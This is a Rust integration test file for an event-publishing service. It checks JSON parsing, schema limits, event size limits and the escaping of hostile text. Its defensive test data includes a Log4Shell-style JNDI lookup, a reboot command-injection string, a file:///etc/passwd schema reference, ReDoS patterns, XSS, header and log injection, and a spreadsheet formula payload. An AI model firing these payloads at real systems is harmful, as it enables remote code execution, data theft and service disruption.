//! E: JSON that is none, JSON that careless readers change, schemas that cost too much, and texts that mean something to others.

use std::collections::HashMap;
use std::time::Duration;

use carillon::proto::cloudevents::cloud_event::CloudEventAttributeValue;
use carillon::proto::cloudevents::cloud_event::Data;
use carillon::proto::cloudevents::cloud_event::cloud_event_attribute_value::Attr;
use carillon::proto::internal::PublishRequest;
use carillon::proto::public::{AddEventTypeSchemaRequest, GetEventRequest, WebhookMode};
use serde_json::json;
use tokio::net::TcpListener;
use tonic::Code;

use super::Expected::{Fine, Refused};
use super::{Row, TYPE, at_most, invalid, quickest};
use crate::harness::tenant::{cloud_event, publish_request, webhook};
use crate::harness::{Receiver, eventually};

fn of(data: Data) -> PublishRequest {
    let mut request = publish_request(TYPE, &json!({}));
    request.event.as_mut().expect("it is set").data = Some(data);
    request
}

#[tokio::test]
async fn e1_json_is_refused_where_it_is_none_and_never_changed() {
    let mut row = Row::open().await;
    let receiver = Receiver::start().await;
    let mut request = row.tenant.subscribe_request(TYPE, &receiver.url("/raw"));
    request.target = Some(webhook(&receiver.url("/raw"), WebhookMode::Raw));
    row.tenant.events().subscribe(request).await.expect("a receiver can be subscribed");

    let broken: Vec<Vec<u8>> = [
        "",
        " ",
        "{} {}",
        "{}x",
        "{",
        "[1,]",
        "{\"a\":1,}",
        "{a:1}",
        "{'a':1}",
        "\u{feff}{}",
        "\"\\ud800\"",
        "\"\\udc00\\ud800\"",
        "{\"\\ud800\":1}",
        "\"a\nb\"",
        "\"\0\"",
        "nul",
        "True",
        "/* a */{}",
        "\"\\x41\"",
        "\"\\u12\"",
        "1 2",
        "\u{a0}{}",
    ]
    .map(|text| text.as_bytes().to_vec())
    .into_iter()
    .chain(["[".repeat(100_000).into_bytes(), "{\"a\":".repeat(10_000).into_bytes()])
    .collect();
    for bytes in broken {
        let text = String::from_utf8(bytes).expect("these are UTF-8");
        let status = row.tenant.try_publish(of(Data::TextData(text.clone()))).await;
        let offset = status.as_ref().err().is_some_and(|status| status.message().contains("byte"));
        row.ensure(&text, offset, "the place is not told");
        row.check(&text, status, invalid("event.data"));
    }

    let keys: Vec<String> = (0..50_000).map(|n| format!("\"k{n}\":{n}")).collect();
    let exact = [
        "{\"a\":1,\"a\":2}".to_owned(),
        "{\"z\":1,\"a\":{\"y\":1,\"b\":2}}".to_owned(),
        "\"\\u0000\"".to_owned(),
        "\"\\ud83d\\udd14 \u{1f514} \\/ \\u00e4 a\u{308}\"".to_owned(),
        "9007199254740993".to_owned(),
        "[1e400,-1e-400,-0,1.0,1E5,0.1000]".to_owned(),
        "9".repeat(100_000),
        format!("0.{}", "1".repeat(100_000)),
        " \r\n\t{ \"a\" :\t1 }\n ".to_owned(),
        format!("{{{}}}", keys.join(",")),
        "null".to_owned(),
        "{\"\":\"\"}".to_owned(),
        "{\"__proto__\":{\"constructor\":1}}".to_owned(),
    ];
    let mut sent = HashMap::new();
    for text in exact {
        if let Some(answer) = row.publish(&text, of(Data::TextData(text.clone())), Fine).await {
            sent.insert(answer.event_id, text);
        }
    }
    for (event_id, text) in &sent {
        for replica in &row.tenant.at {
            let request = GetEventRequest { event_id: event_id.clone() };
            let read = replica.events.clone().get_event(request).await.expect("it is there").into_inner();
            let data = read.event.and_then(|event| event.event).and_then(|event| event.data);
            if data != Some(Data::TextData(text.clone())) {
                row.wrong.push(format!("{}: is read otherwise than it was sent", &text[..text.len().min(40)]));
            }
        }
    }
    let received = receiver.receives("/raw", sent.len()).await;
    for text in sent.values() {
        let exact = received.iter().any(|one| one.body == text.as_bytes());
        row.ensure(text, exact, "is delivered otherwise than it was sent");
    }
    row.close().await;
}

#[tokio::test]
async fn e3_schemas_that_reach_out_or_cost_too_much_are_refused() {
    let mut row = Row::open().await;
    let forbidden = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let remote = format!("http://{}/schema.json", forbidden.local_addr().expect("it is bound"));
    let alternatives: Vec<_> = (0..10_000).map(|n| json!({ "const": n })).collect();
    let deep = format!("{}{{}}{}", "{\"not\":".repeat(5_000), "}".repeat(5_000));
    let patterns: Vec<_> = (0..100).map(|n| json!({ "pattern": format!("{}{n}", "(a|b)*c".repeat(200)) })).collect();
    let large: Vec<_> = (0..1_000).map(|n| json!({ "pattern": format!("\\p{{L}}{{5}}{n}") })).collect();
    let dependent: HashMap<_, _> = (0..2_000).map(|n| (format!("a{n}"), json!(["b"]))).collect();
    let documents = [
        ("a remote reference", json!({ "$ref": remote }).to_string()),
        ("a remote reference deep inside", json!({"properties": {"a": {"items": {"$ref": remote}}}}).to_string()),
        ("a remote meta-schema", json!({ "$schema": remote }).to_string()),
        ("a remote base", json!({"$id": remote, "properties": {"a": {"$ref": "other.json"}}}).to_string()),
        ("a file", json!({ "$ref": "file:///etc/passwd" }).to_string()),
        ("a reference to itself", json!({ "$ref": "#" }).to_string()),
        (
            "a cycle of three",
            json!({"$ref": "#/$defs/a", "$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}}).to_string(),
        ),
        ("a reference to nothing", json!({ "$ref": "#/$defs/absent" }).to_string()),
        ("look-around", json!({ "pattern": "^(?=(a+)+$)" }).to_string()),
        ("a back-reference", json!({ "pattern": "(a*)\\1+$" }).to_string()),
        (
            "a pattern that is large when it is compiled",
            json!({ "pattern": "((a{1,1000}){1,1000}){1,1000}" }).to_string(),
        ),
        ("patterns that are large together when they are compiled", json!({ "allOf": large }).to_string()),
        ("patterns of 140 KiB", json!({ "allOf": patterns }).to_string()),
        ("10,000 alternatives", json!({ "anyOf": alternatives }).to_string()),
        ("5,000 deep", deep),
        ("300 KiB", json!({ "description": "x".repeat(300 << 10) }).to_string()),
        ("a number of 200 digits", format!("{{\"minimum\": 1{}}}", "0".repeat(200))),
        ("2,000 dependent names", json!({ "dependentRequired": dependent }).to_string()),
        ("a number", "1".to_owned()),
        ("an unknown type", json!({ "type": "strnig" }).to_string()),
        ("a negative length", json!({ "minLength": -1 }).to_string()),
        ("trailing bytes", "{} {}".to_owned()),
    ];
    for (member, schema) in documents {
        let request = AddEventTypeSchemaRequest { event_type: TYPE.to_owned(), schema, ..Default::default() };
        let mut types = row.tenant.types();
        let (answer, taken) = quickest(async || types.add_event_type_schema(request.clone()).await).await;
        row.ensure(member, taken < at_most(100), format!("refused after {taken:?}"));
        // The field is followed by the place in the document.
        let refused = answer.as_ref().err().map(crate::harness::tenant::reason);
        row.ensure(member, refused.as_deref() == Some("SCHEMA_INVALID"), format!("{answer:?}"));
    }
    let asked = tokio::time::timeout(Duration::ZERO, forbidden.accept()).await;
    row.ensure("remote references", asked.is_err(), "something was fetched");
    // Nothing of them was kept: any data is still valid.
    row.publish("no schema", publish_request(TYPE, &json!({"any": "thing"})), Fine).await;
    row.close().await;
}

#[tokio::test]
async fn e4_texts_that_mean_something_to_others_are_only_texts() {
    let mut row = Row::open().await;
    let receiver = Receiver::start().await;
    let mut request = row.tenant.subscribe_request(TYPE, &receiver.url("/binary"));
    request.target = Some(webhook(&receiver.url("/binary"), WebhookMode::Binary));
    row.tenant.events().subscribe(request).await.expect("a receiver can be subscribed");
    let texts = [
        "${jndi:ldap://203.0.113.1/a}",
        "{{7*7}}<%= 7*7 %>#{7*7}",
        "$(reboot)`reboot`|reboot;reboot&",
        "<script>alert(1)</script>",
        "\u{202e}gnissecorp\u{2066}",
        "%0d%0aset-cookie: a=b",
        "caf\u{e9} \"quoted\" 100% \u{1f514}",
        "=cmd|' /C calc'!A0",
    ];
    let with_subject = |text: &str, data: &str| {
        let mut event = cloud_event(TYPE, &json!({ "text": data }));
        let value = CloudEventAttributeValue { attr: Some(Attr::CeString(text.to_owned())) };
        event.attributes.insert("subject".to_owned(), value);
        PublishRequest { event: Some(event), ..Default::default() }
    };
    let mut sent = Vec::new();
    for text in texts {
        let answer = row.publish(text, with_subject(text, text), Fine).await;
        sent.extend(answer.map(|answer| (answer.event_id, text.to_owned())));
    }
    // In the data everything goes.
    for data in ["\u{1b}[2J\u{1b}]0;title\u{7}", "a\r\nlevel=error msg=forged", "\0", "\u{9b}31m"] {
        let answer = row.publish(data, with_subject("plain", data), Fine).await;
        sent.extend(answer.map(|answer| (answer.event_id, data.to_owned())));
        let field = invalid("event.attributes.subject");
        row.publish(data, with_subject(data, "plain"), field).await;
        let mut request = publish_request(TYPE, &json!({}));
        request.event.as_mut().expect("it is set").source = data.to_owned();
        row.publish(data, request, invalid("event.source")).await;
        let mut request = publish_request(TYPE, &json!({}));
        request.event.as_mut().expect("it is set").r#type = data.to_owned();
        row.publish(data, request, invalid("event.type")).await;
    }
    let received = receiver.receives("/binary", sent.len()).await;
    for (event_id, text) in sent {
        let Some(one) = received.iter().find(|one| one.header("ce-id") == event_id) else {
            row.wrong.push(format!("{text:?} did not arrive"));
            continue;
        };
        row.ensure(&text, one.json()["text"] == text.as_str(), "arrived otherwise than it was sent");
        let subject = one.header("ce-subject");
        row.ensure(&text, subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '), subject);
        row.ensure(&text, one.headers.get("set-cookie").is_none(), "a header was injected");
    }
    // An unknown path of the ops port, and a method that does not exist, are what a stranger can have logged.
    let path = "/carillon.v1.EventService/%1b[31mforged";
    let answer = super::raw::call(row.world.public(0), path, &[], bytes::Bytes::new()).await;
    row.ensure(
        path,
        answer.as_ref().err().is_some_and(|status| status.code() != Code::Internal),
        format!("{answer:?}"),
    );
    for replica in &row.world.replicas {
        let log = replica.process.log();
        let raw = log.chars().find(|c| c.is_control() && *c != '\n');
        row.ensure("the log", raw.is_none(), format!("holds {raw:?}"));
        row.ensure("the log", !log.lines().any(|line| line.starts_with("level=error msg=forged")), "a line was forged");
    }
    row.close().await;
}

#[tokio::test]
async fn e2_an_event_at_the_limit_is_accepted_and_one_byte_more_is_not() {
    let mut row = Row::open().await;
    let of = |bytes: usize| publish_request(TYPE, &json!("x".repeat(bytes)));
    let too_large = row.tenant.try_publish(of(2 << 20)).await.expect_err("2 MiB are too much");
    let info = tonic_types::StatusExt::get_details_error_info(&too_large).expect("it is set");
    let limit: usize = info.metadata["limit_bytes"].parse().expect("a number");
    // What the attributes take of the limit is found by halving; a test of the size itself would only repeat the code.
    let (mut fits, mut not) = (limit - 1_024, limit);
    let refused = Refused(Code::InvalidArgument, "EVENT_TOO_LARGE", "event");
    while not - fits > 1 {
        let middle = fits.midpoint(not);
        let answer = row.tenant.try_publish(of(middle)).await;
        if answer.is_ok() {
            (row.accepted, fits) = (row.accepted + 1, middle);
        } else {
            row.check("a byte too many", answer, refused);
            not = middle;
        }
    }
    for replica in [0, 1] {
        let answer = row.tenant.publishers[replica].clone().publish(of(fits)).await;
        row.accepted += usize::from(answer.is_ok());
        row.check("the largest", answer, Fine);
        row.check("one byte more", row.tenant.publishers[replica].clone().publish(of(not)).await, refused);
    }
    eventually("the largest can be read", || async {
        let end = row.tenant.end_of_log().await;
        if end > 0 { Ok(()) } else { Err(end) }
    })
    .await;
    row.close().await;
}
